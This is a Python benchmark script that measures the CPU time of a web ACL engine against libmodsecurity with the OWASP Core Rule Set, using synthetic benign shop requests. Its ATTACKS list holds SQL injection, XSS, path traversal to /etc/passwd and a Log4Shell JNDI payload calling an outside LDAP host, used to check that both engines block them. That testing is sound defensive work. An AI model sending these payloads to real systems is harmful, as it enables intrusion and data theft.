"""CPU time of a web ACL's decision about ordinary requests, beside libmodsecurity with the OWASP Core Rule Set.

    python benchmarks/waf.py [--requests 1000] [--suites ../shared/suites]

Ours is a typical web ACL: the managed groups Common, SQLi and KnownBadInputs, an IP set of 10,000 networks and a rate-based rule, asked in
this process. The peer is PyPI's `libmodsecurity` in an environment of its own with the rules of the suites at paranoia level 1, bodies read,
nothing logged. Both get the same GETs and POSTs of about 1 KB, of which no two are alike (ours keeps nothing from one request to the next
anyway), in turns of a hundred, five times over, single-threaded; the run fails where one blocks a request that is benign or lets an attack
pass. Times are of the processor, in microseconds: the median of all, and the median over requests of the best of the five, which is what
remains when the machine does other work beside.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import statistics
import subprocess
import sys
import tarfile
import tempfile
import time
from functools import partial
from pathlib import Path
from typing import Any

import _peers
import msgspec

from garrison.waf.bundle import Bundle
from garrison.waf.decision import Action
from garrison.waf.document import WebACL
from garrison.waf.program import Program, compile_program
from garrison.waf.request import Request

TARGET_MICROSECONDS = 500
TURN = 100
ROUNDS = 5
NOW = 1_790_000_000.0
GROUPS = ("AWSManagedRulesCommonRuleSet", "AWSManagedRulesSQLiRuleSet", "AWSManagedRulesKnownBadInputsRuleSet")

PEER = """
import base64, json, os, pathlib, sys, time
from libmodsecurity import ModSecurity, RulesSet, __version__
folder = pathlib.Path(sys.argv[1])
engine, rules = ModSecurity(), RulesSet()
engine.set_log_callback(lambda message: None)
files = [folder / "crs-setup.conf.example", *sorted((folder / "rules").glob("*.conf"))]
assert rules.load("SecRuleEngine On\\nSecRequestBodyAccess On\\nSecAuditEngine Off\\n") >= 0
for file in files:
    assert rules.load_from_uri(str(file)) >= 0, (file, rules.get_parser_error())
def ask(case):
    with engine.transaction(rules) as t:
        t.process_connection(case["address"], 50000, "192.0.2.1", 443)
        t.process_uri(case["target"], case["method"], "1.1")
        for name, value in case["headers"]:
            t.add_request_header(name, value)
        t.process_request_headers()
        found = t.intervention()
        if found is not None and found.disruptive:
            return True
        if case["body"]:
            t.append_request_body(case["body"])
        t.process_request_body()
        found = t.intervention()
        return found is not None and found.disruptive
print(json.dumps(__version__), flush=True)
for line in sys.stdin:
    cases = json.loads(line)
    for case in cases:
        case["body"] = case["body"].encode("latin-1")
    times, blocked = [], []
    for case in cases:
        began = time.process_time()
        answer = ask(case)
        times.append(time.process_time() - began)
        blocked.append(answer)
    print(json.dumps([times, blocked]), flush=True)
"""


class Peer:
    """libmodsecurity in a process of its own, asked in turns."""

    def __init__(self, rules: Path) -> None:
        command = [str(_peers.environment("libmodsecurity") / "bin" / "python"), "-c", PEER, str(rules)]
        self._process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        self.version = self._line()

    def ask(self, requests: list[Request]) -> tuple[list[float], list[bool]]:
        """Seconds of the processor and whether it was blocked, for each."""
        assert self._process.stdin is not None
        self._process.stdin.write(json.dumps([_plain(request) for request in requests]) + "\n")
        self._process.stdin.flush()
        times, blocked = self._line()
        return times, blocked

    def close(self) -> None:
        assert self._process.stdin is not None
        self._process.stdin.close()
        self._process.wait()

    def _line(self) -> Any:
        assert self._process.stdout is not None
        return json.loads(self._process.stdout.readline())


def main() -> int:
    """Ask both in turns and print the medians; exit 1 where the target is missed or an answer is wrong."""
    arguments = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    arguments.add_argument("--requests", type=int, default=1000, help="of each kind")
    arguments.add_argument("--suites", type=Path, default=_suites())
    chosen = arguments.parse_args()
    source = chosen.suites / "waf" / "crs.tar.gz"
    if not source.exists():
        print(f"skipped: {source} is not there")
        return 0
    began = time.perf_counter()
    program = _program()
    print(f"compiled in {time.perf_counter() - began:.1f} s without a cache")
    with tempfile.TemporaryDirectory() as folder, tarfile.open(source) as archive:
        archive.extractall(folder, filter="data")
        peer = Peer(Path(folder))
        try:
            wrong = _check(program, peer)
            good = [_compare(kind, program, peer, chosen.requests) for kind in ("GET", "POST")]
        finally:
            peer.close()
    return 0 if all(good) and not wrong else 1


def _compare(kind: str, program: Program, peer: Peer, number: int) -> bool:
    chance = random.Random(kind)
    ours: list[list[float]] = []
    theirs: list[list[float]] = []
    wrong = sizes = 0
    for _ in range(0, number, TURN):
        requests = [_benign(kind, chance) for _ in range(TURN)]
        sizes += sum(map(_size, requests))
        for ask, kept in ((partial(_ask, program), ours), (peer.ask, theirs)):
            rounds = [ask(requests) for _ in range(ROUNDS)]
            kept.extend(list(each) for each in zip(*(times for times, _ in rounds), strict=True))
            wrong += sum(rounds[0][1])
    print(
        f"{kind:4} of {sizes // len(ours):,} bytes on average, {len(ours):,} requests, {wrong} blocked that are benign"
    )
    mine, best = _medians(ours)
    other, other_best = _medians(theirs)
    print(f"  garrison        median {mine:7,.0f} µs   undisturbed {best:7,.0f} µs   target {TARGET_MICROSECONDS} µs")
    print(f"  libmodsecurity  median {other:7,.0f} µs   undisturbed {other_best:7,.0f} µs   ({peer.version})")
    print(f"  ratio                  {other / mine:7.1f}×                {other_best / best:7.1f}×")
    return mine < TARGET_MICROSECONDS and not wrong


def _medians(times: list[list[float]]) -> tuple[float, float]:
    """Of all, and of each request's best, in microseconds."""
    every = [each for rounds in times for each in rounds]
    return statistics.median(every) * 1e6, statistics.median(map(min, times)) * 1e6


def _ask(program: Program, requests: list[Request]) -> tuple[list[float], list[bool]]:
    times: list[float] = []
    blocked: list[bool] = []
    for request in map(_fresh, requests):
        began = time.process_time()
        decision = program.decide(request, NOW)
        times.append(time.process_time() - began)
        blocked.append(decision.action is Action.BLOCK)
    return times, blocked


def _fresh(request: Request) -> Request:
    """The same, with nothing taken apart yet."""
    return Request(request.method, request.target, request.headers, request.body, address=request.address)


def _check(program: Program, peer: Peer) -> int:
    """How many attacks pass one of the two."""
    attacks = [_request("GET", f"/items?q={attack}", b"", random.Random(1)) for attack in ATTACKS]
    passed = [_ask(program, attacks)[1].count(False), peer.ask(attacks)[1].count(False)]
    print(f"{len(attacks)} attacks: garrison lets {passed[0]} pass, libmodsecurity {passed[1]}")
    return sum(passed)


ATTACKS = (
    "1%27%20OR%20%271%27=%271%27--%20-",
    "1%20UNION%20SELECT%20password%20FROM%20users",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "../../../../etc/passwd",
    "$%7Bjndi:ldap://203.0.113.9/a%7D",
)


def _program() -> Program:
    chance = random.Random(5)
    networks = tuple(
        f"10.{chance.randrange(256)}.{chance.randrange(256)}.{chance.randrange(256)}/32" for _ in range(10_000)
    )
    rules: list[dict[str, Any]] = [_rule("ips", {"IPSetReferenceStatement": {"ARN": "ips"}}, {"Action": {"Block": {}}})]
    for group in GROUPS:
        statement = {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": group}}
        rules.append(_rule(group, statement, {"OverrideAction": {"None": {}}}))
    rate = {"RateBasedStatement": {"Limit": 1_000_000, "AggregateKeyType": "IP"}}
    rules.append(_rule("rate", rate, {"Action": {"Block": {}}}))
    document = {"Name": "typical", "DefaultAction": {"Allow": {}}, "VisibilityConfig": _visibility("typical")}
    document["Rules"] = [{**rule, "Priority": number} for number, rule in enumerate(rules)]
    return compile_program(Bundle(web_acl=_acl(document), ip_sets={"ips": networks}))


def _acl(document: dict[str, Any]) -> WebACL:
    return msgspec.convert(document, WebACL)


def _rule(name: str, statement: dict[str, Any], action: dict[str, Any]) -> dict[str, Any]:
    return {"Name": name, "Statement": statement, "VisibilityConfig": _visibility(name), **action}


def _visibility(name: str) -> dict[str, Any]:
    return {"SampledRequestsEnabled": True, "CloudWatchMetricsEnabled": True, "MetricName": name}


WORDS = [
    "garden",
    "hose",
    "outdoor",
    "summer",
    "chair",
    "table",
    "lamp",
    "green",
    "blue",
    "small",
    "large",
    "cotton",
    "steel",
    "kitchen",
    "travel",
    "bottle",
    "coffee",
    "morning",
    "evening",
    "delivery",
    "please",
    "leave",
    "parcel",
    "back",
    "door",
    "nobody",
    "home",
    "thank",
    "you",
    "order",
    "number",
    "street",
    "spring",
    "field",
    "river",
    "north",
    "south",
    "order",
    "gift",
    "card",
    "size",
    "colour",
    "price",
    "review",
    "great",
    "quality",
    "would",
    "again",
    "arrived",
    "quickly",
    "packed",
    "well",
    "recommend",
    "friend",
    "family",
    "birthday",
    "present",
]


def _words(chance: random.Random, number: int, between: str) -> str:
    return between.join(chance.choice(WORDS) for _ in range(number))


def _benign(kind: str, chance: random.Random) -> Request:
    """About 1 KB of what a browser sends to a shop."""
    query = f"q={_words(chance, 3, '+')}&category={_words(chance, 1, '')}&page={chance.randrange(40)}&sort=price_asc"
    target = f"/catalog/{_words(chance, 2, '-')}/{chance.randrange(10**6)}?{query}&in_stock=true&min=10&max=250"
    if kind == "GET":
        return _request(kind, target, b"", chance)
    comment = _words(chance, 20, "+")
    name, street = _words(chance, 2, "+").title(), _words(chance, 2, "+").title()
    body = f"name={name}&email={_words(chance, 2, '.')}%40example.com&address={street}+{chance.randrange(99)}%2C+Springfield"
    body += f"&comment={comment}.&qty={chance.randrange(9)}&sku=AC-{chance.randrange(10**4)}-B"
    return _request(kind, f"/checkout/order?step={chance.randrange(4)}", body.encode(), chance)


def _request(kind: str, target: str, body: bytes, chance: random.Random) -> Request:
    session = f"{chance.getrandbits(128):032x}"
    agent = f"Mozilla/5.0 (X11; Linux x86_64; rv:{chance.randrange(100, 140)}.0) Gecko/20100101 Firefox/128.0"
    recent = ".".join(str(chance.randrange(10**6)) for _ in range(24))
    headers = [
        ("host", "shop.example.com"),
        ("user-agent", agent),
        ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
        ("accept-language", "en-US,en;q=0.5"),
        ("accept-encoding", "gzip, deflate, br, zstd"),
        ("referer", f"https://shop.example.com/category/{_words(chance, 1, '')}?page={chance.randrange(9)}"),
        (
            "cookie",
            f"session={session}; theme=dark; lang=en-US; cart={chance.randrange(9)}; consent=all; recent={recent}",
        ),
        ("connection", "keep-alive"),
        ("sec-fetch-dest", "document"),
        ("sec-fetch-mode", "navigate"),
        ("sec-fetch-site", "same-origin"),
        ("sec-fetch-user", "?1"),
        ("upgrade-insecure-requests", "1"),
        ("priority", "u=0, i"),
        ("x-request-id", f"{chance.getrandbits(128):032x}"),
    ]
    if body:
        headers += [("content-type", "application/x-www-form-urlencoded"), ("content-length", str(len(body)))]
    pairs = tuple((name.encode(), value.encode()) for name, value in headers)
    address = f"198.51.{chance.randrange(256)}.{chance.randrange(256)}"
    return Request(kind.encode(), target.encode(), pairs, body, address=address)


def _size(request: Request) -> int:
    headers = sum(len(name) + len(value) + 4 for name, value in request.headers)
    return len(request.method) + len(request.target) + 12 + headers + 2 + len(request.body)


def _plain(request: Request) -> dict[str, Any]:
    return {
        "method": request.method.decode(),
        "target": request.target.decode("latin-1"),
        "headers": [(name.decode("latin-1"), value.decode("latin-1")) for name, value in request.headers],
        "body": request.body.decode("latin-1"),
        "address": request.address,
    }


def _suites() -> Path:
    return Path(os.environ.get("GARRISON_SUITES") or Path(__file__).parents[2] / "shared" / "suites")


if __name__ == "__main__":
    sys.exit(main())
